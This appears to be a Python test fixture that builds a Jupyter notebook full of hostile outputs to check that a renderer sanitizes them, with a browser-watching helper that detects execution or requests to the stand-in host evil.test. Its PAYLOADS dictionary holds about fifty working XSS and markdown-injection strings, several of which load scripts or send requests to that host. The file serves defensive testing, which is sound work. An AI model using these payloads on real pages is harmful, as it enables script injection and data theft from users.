"""What a model could write to harm its reader, and a notebook that shows it.

Whatever runs sets `window.hit`; whatever is fetched is fetched from `EVIL`.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

EVIL = "http://evil.test"
HIT = "window.hit=1"

PAYLOADS = {
    "script": f"<script>{HIT}</script>",
    "script in odd case": f"<ScRiPt/x>{HIT}</sCrIpT >",
    "remote script": f"<script src={EVIL}/x.js></script>",
    "module script": f"<script type=module>import '{EVIL}/m.js'</script>",
    "image error": f"<img src={EVIL}/x.png onerror={HIT}>",
    "image without quotes": f"<img/src='x:x'/onerror={HIT}>",
    "image set": f"<img srcset='{EVIL}/a.png 1x'><picture><source srcset={EVIL}/b.png></picture>",
    "svg load": f"<svg onload='{HIT}'></svg>",
    "svg animation": f"<svg><animate onbegin='{HIT}' attributeName=x dur=1s></svg>",
    "svg script": f"<svg><script>{HIT}</script><image href={EVIL}/x.svg /></svg>",
    "svg use": f"<svg><use href='{EVIL}/x.svg#a'></use><set onbegin={HIT} attributeName=x></svg>",
    "svg style escape": f"<svg><style><img src=x onerror={HIT}></style></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph>",
    "mathml link": f"<math><a xlink:href='javascript:{HIT}'>x</a></math>",
    "javascript link": f"<a href='javascript:{HIT}'>x</a>",
    "javascript link, split": f"<a href='java&#10;script:{HIT}' autofocus onfocus={HIT}>x</a>",
    "javascript link, control": f"<a href='\x01javascript:{HIT}'>x</a>",
    "data link": f"<a href='data:text/html,<script>{HIT}</script>' ping={EVIL}/ping>x</a>",
    "frame": f"<iframe src='{EVIL}/frame'></iframe>",
    "frame with source": f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "frame with script address": f"<iframe src='javascript:parent.{HIT}'></iframe>",
    "object and embed": f"<object data='{EVIL}/o'></object><embed src='{EVIL}/e'>",
    "form": f"<form action={EVIL}><input name=q autofocus onfocus={HIT}><button formaction={EVIL}>",
    "style import": f"<style>@import url({EVIL}/x.css);body{{background:url({EVIL}/b)}}</style>",
    "style attribute": f"<div style='background:url({EVIL}/y.png);width:expression({HIT})'>y</div>",
    "style that covers": f"<div style='position:fixed;inset:0;background:url({EVIL}/c)'>x</div>",
    "stylesheet": f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/p>",
    "base": f"<base href='{EVIL}/'><img src=relative.png>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "media": f"<video poster={EVIL}/p.png><source src={EVIL}/v onerror={HIT}></video>"
    f"<audio src={EVIL}/a autoplay onerror={HIT}></audio>",
    "details": f"<details open ontoggle={HIT}>x</details>",
    "noscript mutation": f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    "template mutation": f"<template><img src=x onerror={HIT}></template>"
    f"<div><template shadowrootmode=open><img src={EVIL}/t.png onerror={HIT}></template></div>",
    "comment mutation": f"<!--><img src=x onerror={HIT}>--><!-- --!><img src=x onerror={HIT}>",
    "select mutation": f"<select><style></select><img src=x onerror={HIT}></style>",
    "nested tags": f"<scr<script>ipt>{HIT}</scr</script>ipt><<img src=x onerror={HIT}>",
    "null characters": f"\x00<scr\x00ipt>{HIT}</script><img\x00 src={EVIL}/0.png onerror={HIT}>",
    "wide characters": f"＜script＞{HIT}＜/script＞ <img src={EVIL}/w.png onerror\u2028={HIT}>",
    "entities": f"&lt;img src=x onerror={HIT}&gt; &#60;script&#62;{HIT}&#60;/script&#62;",
    "breaking out": f"</td></table></div></pre></code>--></style><img src=x onerror={HIT}>",
    "template language": "{{ 7*7 }} {% raw %} ${window.hit=1} <%= 1 %>"
    f"<xss onpointerenter={HIT} style=animation-name:x onanimationstart={HIT}>",
    "markdown link": f"[x](javascript:{HIT}) [y](JaVaScRiPt&colon;{HIT}) [z](<java\tscript:{HIT}>)",
    "markdown data link": f"[x](data:text/html;base64,PHNjcmlwdD4) [y](vbscript:{HIT})",
    "markdown link title": f"[x]({EVIL}/ 'a\" onmouseover=\"{HIT}')",
    "markdown image": f'![x]({EVIL}/pixel.png) ![a"onerror="{HIT}]({EVIL}/"onload="{HIT})',
    "markdown reference": f"![x][r] [y][r]\n\n[r]: {EVIL}/reference.png 'x\"onload={HIT}'",
    "markdown javascript reference": f"[y][j] [j]\n\n[j]: javascript:{HIT}",
    "markdown autolink": f'<javascript:{HIT}> <{EVIL}/"onclick={HIT}>',
    "markdown fence": f'```"onclick={HIT}"><script>{HIT}</script>\nx\n```',
    "markdown code": f"`</code><img src=x onerror={HIT}>`\n\n```py\n'</pre><script>{HIT}</script>",
    "markdown table": f"| a | <img src=x onerror={HIT}> |\n|-|-|\n| <svg onload={HIT}> | b |",
}
"""Each does harm in its own way; the last ones where Markdown is rendered."""
HARMLESS_ALONE = {"mathml", "mathml link", "data link", "select mutation", "entities"}
"""Do harm in some browsers only, or once something has rewritten or decoded them."""


def notebook(path: Path) -> Path:
    """A notebook at `path` whose outputs are hostile; one harmless table is among them."""
    outputs = [_output("text/html", payload) for payload in PAYLOADS.values()]
    everything = "\n\n".join(PAYLOADS.values())
    outputs += [_output(kind, everything) for kind in ("text/markdown", "text/latex", "text/plain")]
    outputs += [
        _output("application/javascript", HIT),
        _output("image/svg+xml", PAYLOADS["svg script"]),
        _output("text/html", "<table><tr><th>kept</th></tr></table>"),
        new_output("stream", name="stdout", text=everything),
        new_output("stream", name="stderr", text="progress"),
        new_output("error", ename=everything, evalue=everything, traceback=everything.split("\n")),
    ]
    cells = [new_markdown_cell("# A title\n\ntext"), new_code_cell("pass", outputs=outputs)]
    nbformat.write(new_notebook(cells=cells, metadata={"widgets": {"x": 1}}), path)
    return path


def _output(kind: str, content: str) -> Any:
    return new_output("display_data", data={"text/plain": "x", kind: content})


POKE = """(selector) => {
    const stay = (event) => {
        const address = event.target.closest?.("a")?.protocol ?? "";
        if (!address.startsWith("javascript")) event.preventDefault();
    };
    document.addEventListener("click", stay, true);
    const types = ["mouseover", "pointerenter", "focus", "click", "toggle", "load", "error"];
    for (const element of document.querySelectorAll(selector)) {
        for (const type of types) {
            element.dispatchEvent(new MouseEvent(type, { bubbles: false, cancelable: true }));
        }
    }
    document.removeEventListener("click", stay, true);
}"""


class Witness:
    """Watches a page from before it is opened. The hostile server answers with a script."""

    def __init__(self, page: Any) -> None:
        self.asked: list[str] = []
        self._page = page
        page.on("request", lambda request: self.asked.append(request.url))
        page.route(
            f"{EVIL}/**",
            lambda route: route.fulfill(content_type="application/javascript", body=HIT),
        )

    def poke(self, selector: str = "*") -> None:
        """Point at, focus and click every element, then wait a moment."""
        self._page.evaluate(POKE, selector)
        self._page.wait_for_timeout(150)

    @property
    def ran(self) -> bool:
        """Whether any frame ran something hostile."""
        return bool(self._page.evaluate("window.hit"))

    @property
    def fetched(self) -> list[str]:
        """What was asked of the hostile server."""
        return [url for url in self.asked if url.startswith(EVIL)]
